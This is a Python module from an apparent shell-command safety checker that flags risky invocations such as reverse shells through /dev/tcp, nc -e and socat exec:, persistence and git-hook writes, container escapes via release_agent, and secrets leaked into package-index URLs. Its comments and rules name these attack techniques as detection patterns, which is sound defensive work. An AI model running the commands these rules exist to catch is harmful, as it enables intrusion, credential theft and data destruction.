"""Per-program rules: disk writes, sensitive paths, git, chmod, packages (deletes: _deletes).

Each check reads one resolved :class:`~deerguard.shell._resolve.Invocation` (static fields
after expansion) and reports findings through ``add(rule_id, span, message, detail)``. Paths
are normalized first (``$HOME`` -> ``~``, ``//``, ``/./`` and ``..`` collapsed, relative paths
joined to a known working directory), so spelling does not change the outcome.
"""

from __future__ import annotations

import functools
from collections.abc import Callable

from . import _rules as R
from ._container import CGROUP_ESCAPE_FILES, check_mounts
from ._credpaths import setup_write
from ._defaultpath import default_path
from ._deletes import (
    NODE_DELETERS,
    TRASHERS,
    check_find,
    check_node_delete,
    check_rm,
    opts_and_operands,
)
from ._dests import COPIERS, EXTRACTORS, copy_dests, extract_dir
from ._fdtool import FD_NAMES, fd_commands
from ._files import clone_target
from ._git import check_git
from ._modes import acl_world_writable, mode_risk, umask_world_writable
from ._paths import PathRules, candidate_paths, is_critical, norm_path
from ._pidlists import MEMORY_READERS, check_kill, memory_read
from ._pkgcreate import RUNNER_CHECKS, check_runner
from ._pkgver import VERSION_MANAGERS, check_version_manager
from ._remote import parse_remote
from ._resolve import Invocation
from ._sshconf import ssh_client_config, ssh_config_code
from ._tooldestroy import DESTROY_TOOLS, check_destroy_tool
from ._urlrun import URL_RUNNERS, check_url_runner
from ._words import DYN, Field

__all__ = ["Add", "check_args", "check_inplace", "check_program", "check_remote",
           "check_write", "inplace_files", "interpreter_family"]

Add = Callable[[str, tuple[int, int], str, "str | None"], None]


def check_write(add: Add, rules: PathRules, field: Field, cwd: str | None, how: str,
                text: str | None = None) -> None:
    """Report a write to a disk device, a persistence file, a system path or a protected one.
    ``text`` is what is written, when known (a redirection's or tee's input)."""
    paths = candidate_paths(field.text, cwd)
    if field.taint and field.text[:1] == DYN:  # >> "${ZDOTDIR:-~}/.zshrc": ~/.zshrc when unset
        resolved = default_path(field, any_var=True)
        path = norm_path(resolved, cwd) if resolved is not None else None
        if path is not None:
            paths.append(path)
    for path in paths:
        if path.startswith(("/dev/tcp/", "/dev/udp/")):
            add("shell.reverse-shell", field.span, f"{how} a network socket ({path})", None)
        elif path.startswith(R.DENY_DEVICE_PREFIXES):
            add("shell.disk-write", field.span, f"{how} the raw device {path}", None)
        elif rules.match(path, "persistence") or (
                not path.startswith(("/", "~")) and rules.match("~/" + path, "persistence")):
            if text is not None and ssh_client_config(path) and ssh_config_code(text) is None:
                add("shell.ssh-config", field.span, f"{how} {path}, which decides the hosts, "
                    "keys and options of later ssh and git connections", None)
            else:
                add("shell.persistence", field.span,
                    f"{how} {path}, which makes code run later", None)
        elif path.endswith(CGROUP_ESCAPE_FILES):
            add("shell.container-escape", field.span, f"{how} {path}: the kernel runs a "
                "cgroup's release_agent as root on the host", None)
        elif rules.match(path, "system"):
            add("shell.system-write", field.span, f"{how} the system path {path}", None)
        elif _shadows(path):
            add("shell.persistence", field.span, f"{how} {path}, which runs instead of the "
                f"system's {path.rpartition('/')[2]} for every later shell", None)
        elif rules.match(path, "git_hooks"):
            what = f"the git hook {path}" if not path.endswith("/config") else \
                f"{path}, whose settings (core.fsmonitor, core.hooksPath, aliases) name programs"
            add("shell.git-hook", field.span, f"{how} {what}, which later git commands run",
                None)
        elif rules.match(path, "package_config"):
            add("shell.package-source", field.span, f"{how} {path}, which decides where "
                "later package installs come from", None)
        elif rules.match(path, "sensitive") and not setup_write(path):
            add("shell.persistence", field.span, f"{how} the credential file {path}, which "
                "decides who can log in or what keys are used", None)
        if rules.protected and rules.match(path, "protected"):
            add("shell.protected-path", field.span, f"{how} the protected path {path}", None)


def _shadows(path: str) -> bool:
    """``~/.local/bin/sudo``: a system command's name in a user PATH directory."""
    folder, _, name = path.rpartition("/")
    if name not in R.SHADOWED_COMMANDS:
        return False
    if folder.startswith("/root/"):
        folder = "~/" + folder[len("/root/"):]
    elif folder.startswith(("/home/", "/Users/")):
        user_end = folder.find("/", folder.index("/", 1) + 1)  # /home/USER/...
        folder = "~/" + folder[user_end + 1:] if user_end > 0 else folder
    return folder in R.USER_BIN_DIRS


def check_args(add: Add, rules: PathRules, name: str, args: list[Field], cwd: str | None
               ) -> bool:
    """Check every argument for sockets, secrets and protected paths; True if a secret is read."""
    secret = False
    metadata = name in R.METADATA_ONLY
    protected = bool(rules.protected)
    match = rules.match
    for f in args:
        text = f.text
        if "/" not in text:
            if "~" not in text and (cwd is None or cwd[:1] not in "/~"):
                continue  # a plain word (no socket path either): names no path (in the
                # project directory or below it: a relative prefix, see _cwd)
        elif "/dev/tcp/" in text or "/dev/udp/" in text:
            add("shell.reverse-shell", f.span, "names a /dev/tcp or /dev/udp network socket",
                None)
        for path in candidate_paths(text, cwd):
            if protected and match(path, "protected"):
                add("shell.protected-path", f.span, f"names the protected path {path}", None)
            if not metadata and (match(path, "sensitive") or (
                    not path.startswith(("/", "~")) and match("~/" + path, "sensitive"))):
                add("shell.sensitive-read", f.span, f"{name} reads the secret file {path}",
                    None)
                secret = True
    return secret


def check_remote(add: Add, rules: PathRules, inv: Invocation, cwd: str | None) -> None:
    """Container options that open the host, and host secrets mounted into a container."""
    remote = parse_remote(inv.name, inv.args, 0)
    if remote is None:
        return
    for f, reason in remote.escapes:
        add("shell.container-escape", f.span, reason, None)
    for f, reason in remote.privilege:
        add("shell.privilege", f.span, reason, None)
    if remote.mounts:
        check_mounts(add, rules, inv.name, remote.mounts, cwd)


def chmod_mode(args: list[Field]) -> tuple[Field, bool, bool] | None:
    """The mode operand of chmod (its first operand) and whether it makes files
    world-writable or setuid; None when there is no readable mode (``--reference``)."""
    ended = False
    for f in args:
        t = f.text
        if not ended and t == "--":
            ended = True
            continue
        if not ended and t.startswith("-") and len(t) > 1:
            if t.startswith("--reference"):
                return None
            continue  # -R, -v ... (and -w, a removal, is never risky)
        risk = mode_risk(t) if f.static else None
        return (f, *risk) if risk is not None else None
    return None


def check_setfacl(add: Add, inv: Invocation) -> None:
    """``setfacl -m o::rwx``/``--modify=other:w``/``-Rm o::w``: an ACL entry that lets every
    user write."""
    args = inv.args
    for k, f in enumerate(args):
        t = f.text
        spec: Field | None = None
        if t in ("-m", "--modify", "-s", "--set") or (
                t.startswith("-") and not t.startswith("--") and t[-1] in "ms"):
            spec = args[k + 1] if k + 1 < len(args) else None
        elif t.startswith(("--modify=", "--set=")):
            spec = Field(t.partition("=")[2], f.span, f.taint)
        if spec is not None and spec.static and acl_world_writable(spec.text):
            add("shell.chmod-world", spec.span, f"setfacl {spec.text} makes files "
                "world-writable", None)


def check_chmod(add: Add, inv: Invocation, how: str = "chmod") -> bool:
    """``chmod 777``/``o+w``/``u+s``...: report it; True when it is setuid (the mode
    that turns a system path into a root backdoor)."""
    found = chmod_mode(inv.args)
    if found is None or not (found[1] or found[2]):
        return False
    f = found[0]
    add("shell.chmod-world", f.span, f"{how} {f.text} makes files world-writable or setuid",
        None)
    return found[2]


def check_inplace(add: Add, rules: PathRules, inv: Invocation, cwd: str | None) -> None:
    """``perl -pi -e CODE FILE`` / ``ruby -i``: the files are edited in place (like sed -i)."""
    if any(f.static and f.text.startswith("-") and not f.text.startswith("--")
           and "i" in f.text[1:].split("e", 1)[0] for f in inv.args):
        for f in inplace_files(inv.args):
            check_write(add, rules, f, cwd, f"{inv.name} -i edits")


def inplace_files(args: list[Field]) -> list[Field]:
    """Files of ``perl -pi -e CODE FILE...``: operands that are not the code."""
    out: list[Field] = []
    skip = False
    for f in args:
        t = f.text
        if skip:
            skip = False
            continue
        if t.startswith("-") and len(t) > 1 and f.static:
            cluster = t[1:]
            if cluster.endswith(("e", "E")) or t in ("-M", "-I", "-r"):
                skip = True
            continue
        out.append(f)
    return out


_UV_PIP_CHANGES = frozenset({"install", "uninstall", "sync"})
_NESTED_SUBS: dict[str, tuple[frozenset[str], frozenset[str]]] = {
    "nix": (frozenset({"profile"}), frozenset({"install", "add", "remove", "upgrade"})),
    "dotnet": (frozenset({"tool", "add", "workload"}),
               frozenset({"install", "update", "uninstall", "package", "restore"})),
}
_DRY_RUN = frozenset({"--dry-run", "--dryrun", "--simulate", "--just-print", "--no-act",
                      "--recon", "--package-lock-only"})


def check_package(add: Add, inv: Invocation) -> None:
    name = inv.name
    if name.startswith("pip") and all(c.isdecimal() or c == "." for c in name[3:]):
        name = "pip"  # pip3.11
    subs = R.PACKAGE_MANAGERS.get(name)
    if subs is None:
        return
    args = inv.args
    for f in args:
        # pip install --index-url "https://$(cat .env | base64)@host/simple": what a package
        # manager's arguments hold goes to the index or URL they name (a secret variable
        # authenticating to a private index is not secret *data*: left out).
        leak = next((s for s in f.taint if s.kind == "secret" and not s.program.startswith("$")),
                    None)
        if leak is not None:
            add("shell.exfiltration", f.span, f"{inv.name} sends secret data in its arguments "
                "to a package index or URL", f"{leak.describe()} reaches {inv.name}")
            break
    if name in VERSION_MANAGERS:  # asdf install, rustup toolchain add, uv python install
        check_version_manager(add, inv)
        if name != "uv":
            return
    if name in URL_RUNNERS:
        check_url_runner(add, name, args)  # uv run URL, deno run -A URL, go run MOD@V
    if name in RUNNER_CHECKS:
        check_runner(add, name, args)  # npm create X, npm exec --package=X, gem exec X
    for f in args:
        if f.text in _DRY_RUN or (f.text == "-s" and name in ("apt", "apt-get")):
            return  # pip install --dry-run, apt-get -s install: nothing changes
    if name == "yarn" and all(f.text.startswith("-") for f in args) and not any(
            f.text in ("--version", "-v", "--help", "-h") for f in args):
        add("shell.package-install", inv.word.span, "yarn with no command installs the "
            "project's dependencies", None)
        return
    if name in _NESTED_SUBS:
        # nix profile install, dotnet tool install, dotnet add package: a subcommand group.
        group, changes = _NESTED_SUBS[name]
        operands = [f for f in args if not f.text.startswith("-")]
        if len(operands) > 1 and operands[0].text in group and operands[1].text in changes:
            add("shell.package-install", (inv.word.span[0], operands[1].span[1]),
                f"{inv.name} {operands[0].text} {operands[1].text} changes installed packages",
                None)
        return
    if name == "uv":
        operands = [f for f in args if not f.text.startswith("-")]
        if operands and operands[0].text == "pip":
            # uv pip install/uninstall/sync change packages; list/show/freeze/compile read.
            args = operands[1:2]
            subs = _UV_PIP_CHANGES
    for f in args:
        t = f.text
        if "*" in subs or t in subs:
            add("shell.package-install", (inv.word.span[0], f.span[1]),
                f"{inv.name} {t} changes installed packages", None)
            return
        if not t.startswith("-"):
            return


# Every program a branch of check_program names (besides the mkfs* prefix).
_PROGRAM_CHECKED = frozenset({
    "rm", "rmdir", "unlink", "find", "dd", "cp", "mv", "install", "ln", "rsync", "kill",
    "pkill", "killall", "killall5", "tee", "truncate", "shred", "sed", "chmod", "chown", "chgrp",
    "setfacl", "git", "rg", "ripgrep", "rga", "umask", "crontab", "nc", "ncat", "netcat",
    "nc.traditional", "nc.openbsd", "socat", "websocat", "srm", "wipe", "gio"}) \
    | MEMORY_READERS | TRASHERS | frozenset(R.DISK_FORMATTERS) \
    | COPIERS | EXTRACTORS | NODE_DELETERS | FD_NAMES


def check_program(add: Add, rules: PathRules, inv: Invocation, cwd: str | None,
                  stdin_text: str | None = None) -> list[list[Field]]:
    """Run the program-specific rules for ``inv``; return sub-commands it runs (find -exec).
    ``stdin_text`` is what ``tee`` reads, when known (what it writes)."""
    name = inv.name
    if name in DESTROY_TOOLS:
        check_destroy_tool(add, inv, cwd)  # shred over ~/*, tar --remove-files ~
    if name not in _PROGRAM_CHECKED and not name.startswith("mkfs."):
        # No branch below names it: straight to the final else (check_package, which finds
        # nothing for a name that is not a package manager, pip3.11 and the like aside).
        if name in R.PACKAGE_MANAGERS or name.startswith("pip"):
            check_package(add, inv)
        return []
    if name in ("rm", "rmdir", "unlink", "srm", "wipe"):
        check_rm(add, inv, cwd)  # srm -r ~, wipe -r ~: rm that overwrites first
    elif name in TRASHERS or (name == "gio" and inv.args and inv.args[0].text == "trash"):
        # trash-put ~/*, gio trash ~/Documents: moving a whole home or user folder to the
        # trash takes it away like rm -r (what runs next finds nothing there).
        args = inv.args[1:] if name == "gio" else inv.args
        check_rm(add, Invocation(name, inv.word, [Field("-r", inv.word.span), *args]), cwd)
    elif name == "find":
        return check_find(add, inv, cwd)
    elif name in FD_NAMES:
        return fd_commands(inv.args)  # fd . ~ -X rm -rf runs rm -rf ~/*
    elif name in NODE_DELETERS:
        check_node_delete(add, inv, cwd)
    elif name == "dd":
        for f in inv.args:
            if f.text.startswith("of="):
                check_write(add, rules, Field(f.text[3:], f.span), cwd, "dd writes")
    elif name in R.DISK_FORMATTERS or name.startswith("mkfs."):
        add("shell.disk-write", inv.word.span, f"{name} creates a filesystem or partitions a "
            "disk", None)
    elif name in EXTRACTORS:
        where = extract_dir(inv)
        if where is not None and where != ".":
            check_write(add, rules, Field(where.rstrip("/") + "/*", inv.word.span), cwd,
                        f"{name} extracts into")
    elif name in COPIERS:
        opts, operands = opts_and_operands(inv.args)
        dests, sources = copy_dests(inv, cwd)
        for f in dests:
            check_write(add, rules, f, cwd, f"{name} writes")
        if len(operands) >= 2:
            dest = norm_path(operands[-1].text, cwd)
            if name == "rsync" and dest is not None and is_critical(dest) and any(
                    o.startswith("--delete") for o in opts):
                add("shell.recursive-delete", operands[-1].span, f"rsync --delete removes "
                    f"everything in {dest} that the source lacks", None)
        if name == "mv":
            for f in sources:
                check_write(add, rules, f, cwd, "mv moves away")
                path = norm_path(f.text, cwd)
                if path is not None and is_critical(path):
                    add("shell.recursive-delete", f.span, f"mv moves away {path}", None)
    elif name in ("kill", "pkill", "killall", "killall5"):
        check_kill(add, inv)
    elif name in MEMORY_READERS:
        attached = memory_read(inv)  # gcore $(pgrep ssh-agent), gdb -p "$SSH_AGENT_PID"
        if attached is not None:
            add("shell.sensitive-read", attached[0].span, f"{name} attaches to {attached[1]} "
                "and reads its memory, where decrypted keys are held", None)
    elif name in ("tee", "truncate", "shred"):
        for f in opts_and_operands(inv.args)[1]:
            check_write(add, rules, f, cwd, f"{name} writes",
                        stdin_text if name == "tee" else None)
    elif name == "sed" and any(f.text.startswith("-i") or f.text.startswith("--in-place")
                               or (f.text.startswith("-") and not f.text.startswith("--")
                                   and "i" in f.text) for f in inv.args):
        for f in opts_and_operands(inv.args)[1][1:]:
            check_write(add, rules, f, cwd, "sed -i edits")
    elif name in ("chmod", "chown", "chgrp", "setfacl"):
        if name == "setfacl":
            check_setfacl(add, inv)
        if name == "chmod" and check_chmod(add, inv):
            for f in opts_and_operands(inv.args)[1][1:]:
                path = norm_path(f.text, cwd)
                if path is not None and (rules.match(path, "system") or is_critical(path)):
                    add("shell.system-write", f.span, f"makes the system path {path} "
                        "setuid or world-writable", None)
        opts, operands = opts_and_operands(inv.args)
        if any(o in ("-R", "--recursive") or (o[1:2] != "-" and "R" in o) for o in opts):
            for f in operands[1:]:
                path = norm_path(f.text, cwd)
                if path is not None and is_critical(path):
                    add("shell.system-write", f.span, f"recursive {name} of {path} breaks "
                        "the system", None)
    elif name == "git":
        check_git(add, inv)
        cloned = clone_target(inv.args)  # git clone URL ~/.vim/pack/x/start/x: loaded later
        if cloned is not None:
            check_write(add, rules, Field(cloned.text.rstrip("/") + "/*", cloned.span), cwd,
                        "git clone writes into")
    elif name in ("rg", "ripgrep", "rga") and any(f.text == "--pre" or f.text.startswith("--pre=")
                                          for f in inv.args):
        add("shell.rg-pre", inv.word.span, "rg --pre runs a program on every file", None)
    elif name == "umask":
        mask = next((f for f in inv.args if not f.text.startswith("-")), None)
        if mask is not None and mask.static and umask_world_writable(mask.text):
            add("shell.chmod-world", mask.span, f"umask {mask.text} makes every new file "
                "world-writable", None)
    elif name == "crontab":
        # -u USER takes a value (crontab -u www -l lists www's table); -s (SELinux) and -c
        # DIR (cronie's host) too. The rest: -l/-e/-r/-i act on the table, anything else
        # is a file to install (- or no operand: stdin).
        args = [f for k, f in enumerate(inv.args)
                if not (f.text in ("-u", "-c") or (k > 0 and inv.args[k - 1].text in ("-u", "-c")))
                and not (f.text.startswith("-u") and len(f.text) > 2)]
        opts, operands = opts_and_operands(args)
        reads_stdin = not operands and not any(o in ("-l", "-e", "-r", "-i") for o in opts)
        if operands or reads_stdin or any(f.text == "-" for f in args):
            add("shell.persistence", inv.word.span, "crontab installs a cron table", None)
    elif name in ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"):
        for f in inv.args:
            t = f.text
            if t in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec") or (
                    t.startswith("-") and not t.startswith("--") and ("e" in t or "c" in t)
                    and len(t) <= 4):
                add("shell.reverse-shell", f.span, f"{name} {t} connects a program to the "
                    "network", None)
                break
    elif name == "socat":
        for f in inv.args:
            low = f.text.lower()
            if low.startswith(("exec:", "system:")) or ",exec:" in low or "exec:" in low:
                add("shell.reverse-shell", f.span, "socat connects a program to the network",
                    None)
                break
    elif name == "websocat":
        # websocat ws://h sh-c:CMD (or exec:CMD, cmd:CMD): a program on a network socket.
        for f in inv.args:
            if f.text.lower().startswith(("sh-c:", "exec:", "cmd:")) or f.text in (
                    "--exec", "-e"):
                add("shell.reverse-shell", f.span, "websocat connects a program to the "
                    "network", None)
                break
    else:
        check_package(add, inv)
    return []


@functools.lru_cache(maxsize=256)
def interpreter_family(name: str) -> str | None:
    """``python3.11`` -> ``python``; ``nodejs`` -> ``node``; None for non-interpreters."""
    base = R.INTERPRETER_ALIASES.get(name, name)
    if base in R.INTERPRETER_CODE_FLAGS:
        return base
    for fam in ("python", "perl", "ruby", "php", "lua", "node", "pypy"):
        if base.startswith(fam) and all(c.isdecimal() or c == "." for c in base[len(fam):]):
            return "python" if fam == "pypy" else fam
    return None
